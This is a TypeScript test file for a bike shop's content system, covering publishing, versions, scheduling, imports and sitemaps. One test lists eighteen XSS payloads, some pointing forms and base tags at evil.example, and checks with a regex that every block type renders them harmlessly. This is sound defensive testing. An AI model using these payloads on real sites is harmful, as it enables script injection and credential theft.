import { mkdir, mkdtemp, readFile, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { expect, test, vi } from 'vitest'
import { savePages, publish } from './edit-content.server.ts'
import { runContentCommand } from './files/content-command.server.ts'
import type { BlockType } from './block.ts'
import type { PageDocument } from './page-document.ts'
import { testShop } from '../../tests/helpers/shop.ts'

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 })

const shop = await testShop()
const { db } = shop.database
const german = { cookies: { i18n_redirected: 'de' } }

const en = (blocks: PageDocument['texts'][string]['blocks'], title = 'Delivery'): PageDocument => ({
  template: 'page',
  texts: { en: { title, description: 'How bikes reach you.', blocks } },
})
const text = (markdown: string) => ({ type: 'text', props: { markdown } })
const edit = () => ({ author: 'Ada', now: new Date() })

async function publishPage(key: string, document: PageDocument, path = key) {
  await savePages(db, [{ key, path, document }], edit())
  const [saved] = await savePages(db, [{ key, path, document }], edit())
  await publish(db, { key, version: saved?.version ?? 0 }, edit())
}

const seen = async (path: string, options = {}) => {
  const response = await shop.get(path, options)
  return { status: response.status, html: await response.text() }
}

/** Pages follow a change as soon as the process hears of it. */
const eventually = (path: string, expected: object, options = {}) =>
  vi.waitFor(async () => {
    const page = await seen(path, options)
    expect(page).toMatchObject(expected)
    return page
  }, 10_000)

async function command(...args: string[]) {
  const lines: string[] = []
  const urlOf = (site: string) => `https://${site}.example`
  await runContentCommand({ db, args, urlOf, print: (line) => lines.push(line) })
  return lines.join('\n')
}

async function folderWith(files: Record<string, string>) {
  const folder = await mkdtemp(join(tmpdir(), 'content-'))
  for (const [name, content] of Object.entries(files)) {
    await mkdir(dirname(join(folder, name)), { recursive: true })
    await writeFile(join(folder, name), content)
  }
  return folder
}

const page = (title: string, body = '') =>
  `---\ntitle: ${title}\ndescription: What ${title} is about.\n---\n\n${body}\n`

test('a page is shown once it is published, and never as a draft', async () => {
  await savePages(db, [{ key: 'draft', path: 'draft', document: en([text('Hello')]) }], edit())
  expect(await seen('/draft/')).toMatchObject({ status: 404 })
  await publish(db, { key: 'draft', version: 1 }, edit())
  await eventually('/draft/', { status: 200, html: expect.stringContaining('<p>Hello</p>') })
})

test('each language and each site has its own text', async () => {
  const document: PageDocument = {
    template: 'legal',
    texts: {
      en: { title: 'Terms', description: 'x', blocks: [] },
      de: { title: 'AGB', description: 'x', blocks: [] },
      'de.en': { title: 'Terms in Germany', description: 'x', blocks: [] },
    },
  }
  await publishPage('terms', document)
  await eventually('/terms/', { html: expect.stringContaining('>Terms</h1>') })
  await eventually('/terms/', { html: expect.stringContaining('>AGB</h1>') }, german)
  const host = { headers: { host: 'de.caldercycles.example' }, cookies: { i18n_redirected: 'en' } }
  await eventually('/terms/', { html: expect.stringContaining('>Terms in Germany</h1>') }, host)
})

test('a page without a text in the visitor’s language is not found', async () => {
  await publishPage('english-only', en([]))
  await eventually('/english-only/', { status: 200 })
  expect(await seen('/english-only/', german)).toMatchObject({ status: 404 })
})

test('the newest publication wins, and an older version can be shown again', async () => {
  await publishPage('undo', en([text('first')]))
  await publishPage('undo', en([text('second')]))
  await eventually('/undo/', { html: expect.stringContaining('second') })
  expect(await command('publish', 'undo', '--version', '1')).toContain('shows version 1')
  await eventually('/undo/', { html: expect.stringContaining('first') })
  expect(await command('undo', 'undo')).toContain('shows version 2')
  await eventually('/undo/', { html: expect.stringContaining('second') })
  const history = (await command('history', 'undo')).replaceAll(/\S+Z\b/g, '…').split('\n')
  expect(history).toEqual([
    '…  command line published version 2 from …',
    '…  command line published version 1 from …',
    '…  Ada published version 2 from …',
    '…  Ada saved version 2',
    '…  Ada published version 1 from …',
    '…  Ada saved version 1',
  ])
  expect(await command('diff', 'undo', '1', '2')).toContain('- first\n+ second')
})

test('a withdrawn page is not found', async () => {
  await publishPage('gone', en([]))
  await eventually('/gone/', { status: 200 })
  expect(await command('withdraw', 'gone')).toBe('"gone" is not shown from now on.')
  await eventually('/gone/', { status: 404 })
})

test('a scheduled version appears and goes by itself', async () => {
  await publishPage('offer', en([text('usual')]))
  await savePages(
    db,
    [{ key: 'offer', path: 'offer', document: en([text('Black Friday')]) }],
    edit(),
  )
  const at = (ms: number) => new Date(Date.now() + ms)
  await publish(db, { key: 'offer', version: 2, from: at(1_500), until: at(4_000) }, edit())
  await eventually('/offer/', { html: expect.stringContaining('usual') })
  await eventually('/offer/', { html: expect.stringContaining('Black Friday') })
  const after = await eventually('/offer/', { html: expect.stringContaining('usual') })
  expect(after.html).not.toContain('Black Friday')
})

test('saving the same page again makes no new version', async () => {
  const source = { key: 'same', path: 'same', document: en([text('a')]) }
  const save = async () => (await savePages(db, [source], edit()))[0]
  expect(await save()).toMatchObject({ version: 1, isNew: true })
  expect(await save()).toMatchObject({ version: 1, isNew: false })
})

test('a page that moves leaves a redirect behind', async () => {
  await publishPage('moved', en([]), 'old-path')
  await publishPage('moved', en([]), 'new-path')
  await eventually('/old-path/', { status: 301 })
  expect(await eventually('/new-path/', { status: 200 })).toBeDefined()
})

test('pages with routes of their own show content, too', async () => {
  await publishPage('brand', en([], 'Made in Halifax'), 'branding/made-in-halifax')
  await eventually('/branding/made-in-halifax/', {
    html: expect.stringContaining('Made in Halifax'),
  })
  expect(await seen('/branding/unknown/')).toMatchObject({ status: 404 })
})

test('a block of a type that this release does not know is left out', async () => {
  await publishPage('future', en([{ type: 'hologram', props: { depth: 3 } }, text('still here')]))
  await eventually('/future/', { status: 200, html: expect.stringContaining('still here') })
})

test('fills in the retailer’s details', async () => {
  await publishPage('details', en([text('Sold by {{seller.company}}')]))
  await eventually('/details/', { html: expect.stringContaining('Sold by Calder Cycles Ltd') })
})

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg onload=alert(1)>',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>*{display:none}</style>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<img srcset="x 1x, javascript:alert(1) 2x" src=x>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<video><source onerror=alert(1)></video>',
  '"><svg/onload=alert(1)>',
  '<button formaction=javascript:alert(1)>x</button>',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
]
const scene = { place: 'moor', time: 'day', weather: 'clear', seed: 'attack' }

/** Every type of block with the attack in each of its texts; the compiler asks for new types. */
const attacked = (attack: string): { [Type in BlockType]: unknown } => ({
  text: { markdown: attack },
  html: { html: attack },
  hero: { ...scene, alt: attack, title: attack, text: attack, button: { label: attack, to: '/' } },
  scene: { ...scene, alt: attack },
  'picture-text': { ...scene, alt: attack, title: attack, text: attack },
  notice: { title: attack, text: attack },
  banner: { title: attack, text: attack, button: { label: attack, to: '/' } },
  steps: { items: [{ title: attack, text: attack }] },
  usps: { items: [{ title: attack, text: attack }] },
  tiles: { items: [{ title: attack, text: attack, to: '/' }] },
  faq: { items: [{ question: attack, answer: attack }] },
  quote: { text: attack, name: attack, role: attack },
  table: { caption: attack, head: [attack], rows: [[attack]] },
  comparison: {
    caption: attack,
    columns: [{ title: attack }, { title: 'b', button: { label: attack, to: '/' } }],
    rows: [{ label: attack, values: [attack, attack] }],
  },
  drawing: { sku: attack, caption: attack },
  products: { title: attack, skus: [attack] },
  categories: { title: attack, categories: ['/none/'] },
  video: { ...scene, alt: attack, title: attack, file: '/media/a.mp4', transcript: attack },
  countdown: { title: attack, text: attack, until: '2999-01-01' },
  'contact-form': { title: attack, text: attack },
  'delivery-prices': { caption: attack, countries: ['gb'] },
  'size-finder': { bike: 'none' },
})

test.each(attacks)('%s does no harm in any block', async (attack) => {
  const key = `attack-${attacks.indexOf(attack)}`
  await publishPage(
    key,
    en(Object.entries(attacked(attack)).map(([type, props]) => ({ type, props }))),
  )
  await eventually(`/${key}/`, { status: 200 })
  const { html } = await seen(`/${key}/`)
  const main = /<main[\s\S]*<\/main>/.exec(html)?.[0] ?? ''
  expect(main.length).toBeGreaterThan(500)
  const shown = main.replaceAll(/<script type="application\/ld\+json">[\s\S]*?<\/script>/g, '')
  const tags = shown.match(/<[a-z][^<>]*>/gi) ?? []
  expect(tags.length).toBeGreaterThan(50)
  for (const tag of tags) {
    expect(tag).not.toMatch(
      / (?:href|src|srcset|action|poster)="[^"]*\b(?:javascript|data|vbscript)\s*:/i,
    )
    // Attribute values are quoted and escaped, so only the rest of a tag can do harm.
    expect(tag.replaceAll(/"[^"]*"/g, '')).not.toMatch(
      /<(?:script|iframe|math|base|meta|style|object)\b|[\s/](?:on\w+|srcdoc|formaction)\b/i,
    )
  }
})

test('imports a folder, publishes it, and exports the same files', async () => {
  const files = {
    'care/page.yaml': 'path: /frame-care/\ntemplate: page\n',
    'care/en.md': page('Frame care', 'Wash it.\n\n:::notice\ntitle: Mind\ntext: No jet wash.\n:::'),
    'care/de.md': page('Rahmenpflege', 'Wasch ihn.'),
  }
  const folder = await folderWith(files)
  expect(await command('import', folder, '--publish')).toContain('care: version 1')
  await eventually('/frame-care/', { html: expect.stringContaining('No jet wash') })
  const target = await mkdtemp(join(tmpdir(), 'export-'))
  await command('export', target)
  for (const [name, content] of Object.entries(files))
    expect(await readFile(join(target, name), 'utf8')).toBe(content)
  expect(await command('import', folder)).toBe('Nothing has changed.')
  expect(await command('list')).toContain('/frame-care/  version 1')
})

test('one fault in a folder and nothing is saved', async () => {
  const folder = await folderWith({
    'good/page.yaml': 'path: /good/\n',
    'good/en.md': page('Good'),
    'bad/page.yaml': 'path: /bad/\n',
    'bad/en.md': page('Bad', ':::faq\n- question: Why?\n:::'),
    'bad/fr.md': page('Mauvais'),
    'lost/en.md': page('Lost'),
    'taken/page.yaml': 'path: /checkout/\n',
    'taken/en.md': page('Taken'),
    'twin/page.yaml': 'path: /good/\n',
    'twin/en.md': page('Twin'),
  })
  const message = await command('import', folder).catch((problem: unknown) => String(problem))
  for (const fault of [
    'bad/en.md:7: 0.answer: is missing',
    'bad/fr.md: is not a text',
    'lost/page.yaml: is missing',
    'taken/page.yaml: path: "/checkout/" belongs to the shop\'s own pages',
    'good, twin: all have the path "/good/"',
  ])
    expect(message).toContain(fault)
  expect(await command('list')).not.toContain('/good/')
})

test('a path that another page has is refused with a sentence', async () => {
  await publishPage('owner', en([]), 'owned')
  await expect(
    savePages(db, [{ key: 'thief', path: 'owned', document: en([]) }], edit()),
  ).rejects.toThrow('"/owned/" belongs to a product, a category or another page')
  expect(await command('list')).not.toContain('thief')
})

test.each([
  [['publish', 'nothing'], 'There is no page "nothing".'],
  [['publish', 'undo', '--version', '99'], '"undo" has no version 99.'],
  [['undo', 'owner'], '"owner" has no version before this one.'],
  [['diff', 'undo', 'one'], 'A version must be a number like 2.'],
  [['schedule', 'undo'], 'schedule needs --from TIME.'],
  [['publish', 'undo', '--from', 'tomorrow'], '"tomorrow" is not a time'],
  [['publish', 'undo', '--site', 'fr'], '--site must be one of uk, de.'],
  [
    ['publish', 'undo', '--from', '2026-11-27T08:00:00Z', '--until', '2026-11-27T08:00:00Z'],
    'The end must be after the beginning.',
  ],
  [['paint'], 'Usage: content list'],
])('%j is refused', async (args, message) => {
  await expect(command(...args)).rejects.toThrow(message)
})

test('the sitemap has the pages that are shown, and no others', async () => {
  await publishPage('listed', en([]))
  await savePages(db, [{ key: 'unlisted', path: 'unlisted', document: en([]) }], edit())
  await eventually('/sitemaps/pages.xml', { html: expect.stringContaining('/listed/') })
  expect((await seen('/sitemaps/pages.xml')).html).not.toContain('/unlisted/')
})
